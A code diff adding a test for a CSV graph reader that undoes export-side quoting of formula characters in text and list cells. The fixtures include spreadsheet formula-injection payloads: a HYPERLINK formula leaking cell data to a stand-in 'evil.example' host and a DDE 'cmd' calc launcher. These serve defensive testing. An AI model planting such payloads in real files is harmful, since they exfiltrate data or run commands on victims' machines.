@@ -62,6 +62,31 @@ describe('reading nodes.csv and relationships.csv', () => {
     expect((await readGraphCsv({ nodes: Readable.from(pieces) })).document.nodes).toEqual(expected);
   });
 
+  it("undoes the export's quote before a formula character in text and list cells, and only there", async () => {
+    const read = await readGraphCsv({
+      nodes: csv(
+        'label,id,name,country,tags,saqScore',
+        `Company,'@evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",JP,'+cmd\\|' /C calc'!A0|=2+3,`,
+        "Company,quoted,''-x,JP,'t Hooft|'-y,",
+        "Company,plain,'t Hooft Metaal,JP,,",
+      ),
+      relationships: csv('type,from,to,metal,source', "SUPPLIES,quoted,'@evil,tin,'+cmrt.xlsx"),
+    });
+    expect(read.document).toEqual({
+      nodes: [
+        { label: 'Company', id: '@evil', name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', country: 'JP', tags: ["+cmd|' /C calc'!A0", '=2+3'] },
+        // One quote comes off; a quote that is not before a formula character is the text's own.
+        { label: 'Company', id: 'quoted', name: "'-x", country: 'JP', tags: ["'t Hooft", "'-y"] },
+        { label: 'Company', id: 'plain', name: "'t Hooft Metaal", country: 'JP' },
+      ],
+      relationships: [{ type: 'SUPPLIES', from: 'quoted', to: '@evil', metal: 'tin', source: '+cmrt.xlsx' }],
+    });
+    // A number column is not text: a quote there is not undone, the cell is not a number.
+    expect(await problems({ nodes: csv('label,id,name,country,saqScore', "Company,a,A,JP,'-5") })).toEqual([
+      { path: 'nodes[0].saqScore', message: 'nodes.csv row 2 column saqScore: "\'-5" is not a number (write e.g. 0.25, with a point)' },
+    ]);
+  });
+
   it('an absent file is no rows; a file with only a header is no rows', async () => {
     expect((await readGraphCsv({ relationships: 'type,from,to\n' })).document).toEqual({ nodes: [], relationships: [] });
   });
